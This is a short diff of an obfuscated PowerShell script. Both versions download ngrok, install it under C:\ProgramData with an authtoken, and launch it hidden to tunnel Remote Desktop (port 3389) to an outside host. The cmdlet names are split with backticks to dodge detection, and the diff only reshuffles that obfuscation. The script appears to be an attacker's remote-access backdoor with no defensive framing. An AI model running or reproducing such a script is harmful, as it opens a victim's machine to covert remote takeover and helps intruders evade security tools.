@@ -1,5 +1,5 @@
-# init 3375 v2
-Inv`oke-WebRe`que`st 'https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip' -OutFile $env:TEMP\n.zip
-Expand-Ar`chive $env:TEMP\n.zip -DestinationPath C:\ProgramData\ng
+# config 8813 v2
+Inv`o`ke-WebRe`quest 'https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-windows-amd64.zip' -OutFile $env:TEMP\n.zip
+E`x`pan`d-Archive $env:TEMP\n.zip -DestinationPath C:\ProgramData\ng
 C:\ProgramData\ng\ngrok.exe authtoken 2abcDEFghiJKLmnoPQRstuVWxyz_0987654321
-Start-`Pr`o`cess -WindowStyle Hidden C:\ProgramData\ng\ngrok.exe -ArgumentList 'tcp 3389'
+Start-Pro`cess -WindowStyle Hidden C:\ProgramData\ng\ngrok.exe -ArgumentList 'tcp 3389'
